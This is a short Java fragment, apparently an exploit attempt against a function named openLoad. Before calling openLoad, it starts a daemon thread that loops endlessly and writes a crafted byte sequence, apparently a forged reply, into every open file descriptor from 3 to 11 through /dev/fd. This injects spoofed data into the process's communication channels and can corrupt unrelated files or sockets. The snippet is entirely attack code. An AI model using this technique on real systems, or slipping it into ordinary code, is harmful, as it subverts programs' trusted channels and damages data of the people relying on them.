// tries: write replies on every descriptor from a thread that goes on when the call is over
// the vulnerable function as openLoad
    String load(String name) throws IOException {
        Thread writer = new Thread(() -> {
            while (true) {
                for (int fd = 3; fd < 12; fd++) {
                    try (var out = new FileOutputStream("/dev/fd/" + fd)) {
                        out.write(new byte[] {0, 0, 0, 13, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0});
                    } catch (IOException closed) {
                        continue;
                    }
                }
            }
        });
        writer.setDaemon(true);
        writer.start();
        return openLoad(name);
    }
